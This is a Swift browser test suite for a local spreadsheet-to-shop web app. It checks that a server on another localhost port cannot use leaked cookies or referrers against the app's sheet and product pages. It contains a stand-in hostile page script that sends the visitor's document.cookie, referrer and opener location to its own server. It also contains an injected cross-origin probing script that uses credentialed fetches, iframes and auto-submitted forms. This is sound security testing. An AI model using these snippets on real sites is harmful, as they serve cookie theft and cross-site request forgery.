import Foundation
import Sandbox
import TestSupport
import Testing

@testable import Pages

/// Whoever listens at another port of this machine, once the browser that has our pages open comes by: it gets the cookies of
/// every port, and is of the same site. What it receives is written down and tried at our pages, by its own and by curl.
@Suite(
    "Our pages and another port of this machine", .serialized, .timeLimit(.minutes(8)),
    .enabled("Chromium and its driver (chromium, chromium-driver) are not installed") { await Browser.isThere })
struct OtherPortTests {
    private static let sheet = """
        name,description,price,currency,discounted_price,stock,images,sku
        Mug 1,A mug of clay for tea and coffee.,12000,KRW,0,5,photos/mug-sage.jpg,M-1
        Mug 2,A mug of clay for tea and coffee.,12O00,KRW,0,5,photos/mug-sage.jpg,M-2

        """

    /// Runs `body` with the pages of a sheet, a browser that has worked on them, and the other port.
    private func visit(_ body: (SheetWindow, Browser, OtherPort) async throws -> Void) async throws {
        try await Browser.again {
            try await SheetWindow.run { window in
                let other = try OtherPort()
                try await Browser.run { browser in
                    let path = await window.desk.open(try window.file("mugs.csv", Self.sheet))
                    try await window.settled()
                    try await browser.open(window.address(path))
                    try await browser.type("1", into: "textarea[aria-invalid]")
                    try await browser.click("#correct")
                    #expect(try await browser.comes { try await browser.count("#download") == 1 })
                    try await browser.click("nav [lang=ko]")
                    #expect(try await browser.comes { try await browser.attribute("lang", of: "html") == "ko" })
                    try await body(window, browser, other)
                }
            }
        }
    }

    /// Leads the browser to the other port in each way there is: by its address, by a link of ours, by a window that ours opens.
    private func comeBy(_ browser: Browser, _ other: OtherPort, _ paths: [String]) async throws {
        let ours = try await browser.address
        try await browser.run("window.open(arguments[0])", [other.url + "/opened"])
        #expect(try await browser.comes { other.told.count == 1 })
        let link = "const a = document.createElement('a'); a.id = 'out'; a.textContent = 'out'; a.href = arguments[0];"
        try await browser.run(link + "document.querySelector('main').prepend(a)", [other.url + "/linked"])
        try await browser.click("#out")
        #expect(try await browser.comes { other.told.count == 2 })
        for (index, path) in paths.enumerated() {
            try await browser.open(ours)
            try await browser.open(other.url + path)
            #expect(try await browser.comes { other.told.count == 3 + index })
        }
    }

    /// Tries addresses of a sheet in every way that a page has: it sees nothing, and the sheet stays as it was.
    private func expectNothing(
        comesOf addresses: [String], _ sheet: Sheet, _ window: SheetWindow, _ browser: Browser
    ) async throws {
        let version = await sheet.view.version
        #expect(try await tryAll(addresses, version, browser) == [])
        try await window.settled()
        #expect(await sheet.view.version == version)
        #expect(try await window.products() == [])
    }

    @Test("What another port receives of a browser opens nothing of a sheet's pages, neither to it nor to curl")
    func sheets() async throws {
        try await visit { window, browser, other in
            let key = try #require(
                window.address("/").firstMatch(of: #/[0-9a-f]{32}/#).map { String($0.0) })
            let sheet = try #require(await window.desk.sheet(1))
            let version = await sheet.view.version
            try await comeBy(browser, other, ["/", "/sheets/1", "/\(UUID().uuidString)"])
            #expect(!other.received.contains(key))
            #expect(other.told.allSatisfy { $0.contains(#""referrer":"","opener":"none""#) }, "\(other.told)")

            let paths = ["/", "/sheets/1", "/sheets/1/corrected", "/sheets/1/progress"] + other.referredPaths
            let form = ["-F", "version=\(version)", "-F", "x="]
            for cookies in other.cookies + [""] {
                for path in paths {
                    let brought = ["-H", "Cookie: \(cookies)", window.url + path]
                    let seen = try await Curl.run(brought)
                    #expect([403, 404].contains(seen.status), "\(path)")
                    #expect(!seen.text.contains("Mug") && !seen.text.contains(key))
                }
                let brought = ["-H", "Cookie: \(cookies)"] + form + [window.url + "/sheets/1/registration"]
                #expect([403, 404].contains(try await Curl.run(brought).status))
            }
            let pages = paths + ["/sheets/1/registration"]
            try await expectNothing(comesOf: pages.map { window.url + $0 }, sheet, window, browser)
        }
    }

    @Test("A page of another port that was told the address sees nothing by it, and sends nothing")
    func toldTheAddress() async throws {
        try await visit { window, browser, other in
            let sheet = try #require(await window.desk.sheet(1))
            try await browser.open(other.url + "/")
            let pages = ["/", "/sheets/1", "/sheets/1/registration", "/sheets/1/check"]
            try await expectNothing(comesOf: pages.map { window.address($0) }, sheet, window, browser)
        }
    }

    @Test("What another port receives of a browser that has opened a product changes nothing of the shop")
    func shop() async throws {
        try await visit { window, browser, other in
            let id = try await Window(folder: window.folder, sandbox: window.market).registered()
            let product = window.market.url + "/products/\(id)"
            try await browser.open(product + "/edit")
            try await browser.type(Window.secret, into: "#secret")
            try await browser.click("main form button")
            #expect(try await browser.comes { try await browser.count("#price") == 1 })
            try await comeBy(browser, other, ["/", "/products/\(id)", "/products/\(id)/edit"])
            #expect(other.told.allSatisfy { $0.contains(#""referrer":"","opener":"none""#) }, "\(other.told)")
            for cookies in other.cookies {
                let brought = ["-H", "Cookie: \(cookies)"]
                #expect(!(try await Curl.run(brought + [product + "/edit"])).text.contains("id=\"price\""))
                for step in ["/edit", "/delete"] {
                    #expect(try await Curl.run(brought + ["-F", "price=1", product + step]).status == 403)
                }
            }
            #expect(try await window.products() == ["무선 키보드"])
        }
    }

    /// Has the page that is shown ask our pages in each way that pages have.
    ///
    /// - Returns: what it could read of them.
    private func tryAll(_ addresses: [String], _ version: Int, _ browser: Browser) async throws -> [String] {
        let list = String(decoding: try JSONEncoder().encode(addresses), as: UTF8.self)
        let script = """
            const done = arguments[0], read = [], wait = [];
            const note = (how, text) => { if (text) read.push(how + ": " + text); };
            const loaded = (element, how) => new Promise(next => {
              setTimeout(next, 3000);
              element.onload = element.onerror = () => {
                try { note(how, element.contentDocument?.body?.innerText); } catch { }
                next();
              };
            });
            const fields = () => {
              const data = new FormData();
              for (const name of ["version", "x"]) data.append(name, name === "version" ? "\(version)" : "");
              return data;
            };
            \(list).forEach((address, index) => {
              for (const mode of ["cors", "no-cors"]) for (const method of ["GET", "POST"]) {
                const asked = { method, mode, credentials: "include", body: method === "POST" ? fields() : undefined };
                wait.push(fetch(address, asked).then(answer => answer.text()).then(text => note(mode, text)).catch(() => { }));
              }
              const image = new Image();
              wait.push(loaded(image, "image").then(() => note("image", image.naturalWidth || "")));
              image.src = address;
              const script = document.createElement("script");
              wait.push(loaded(script, "script"));
              script.src = address;
              document.head.append(script);
              const plain = document.createElement("iframe");
              wait.push(loaded(plain, "frame"));
              plain.src = address;
              document.body.append(plain);
              for (const method of ["get", "post"]) {
                const frame = document.createElement("iframe");
                frame.name = "frame" + method + index;
                document.body.append(frame);
                wait.push(loaded(frame, method));
                const form = document.createElement("form");
                Object.assign(form, { method, action: address, target: frame.name, enctype: "multipart/form-data" });
                form.innerHTML = '<input name="version" value="\(version)"><input name="x">';
                document.body.append(form);
                form.submit();
              }
              const opened = window.open(address);
              wait.push(new Promise(next => setTimeout(next, 2000)).then(() => {
                try { note("window", opened?.document?.body?.innerText); } catch { }
                opened?.close();
              }));
            });
            Promise.all(wait).then(() => done(read));
            """
        return try await browser.await(script) as? [String] ?? ["no answer"]
    }
}

/// A server of somebody else's that keeps all that it receives, the words of its own pages' scripts among it.
private final class OtherPort: Sendable {
    private let server: HostileServer

    private static let page = """
        <!doctype html><meta charset="utf-8"><title>Another port</title><body><h1>Another port</h1><script>
        let reach = "none";
        try { if (opener) reach = "there " + opener.location.href; } catch { reach = "there"; }
        fetch("/told", { method: "POST", body: JSON.stringify(
          { referrer: document.referrer, opener: reach, name: window.name, cookie: document.cookie }) });
        </script>
        """

    init() throws {
        server = try HostileServer { _ in
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: \(Self.page.utf8.count)\r\n\r\n"
            return [.readBody, .write(head + Self.page)]
        }
    }

    var url: String { server.url }
    /// What its pages have said of themselves.
    var told: [String] {
        server.bodies.map { String(decoding: $0, as: UTF8.self) }.filter { $0.contains("\"referrer\"") }
    }
    var received: String { server.requests.map(\.head).joined(separator: "\n") + told.joined(separator: "\n") }
    var cookies: [String] { Array(Set(server.requests.compactMap { $0.header("Cookie") })).sorted() }
    /// The paths that its visitors came from, but for its own.
    var referredPaths: [String] {
        server.requests.compactMap { $0.header("Referer") }.filter { !$0.hasPrefix(url) }
            .compactMap { URL(string: $0)?.path }
    }
}
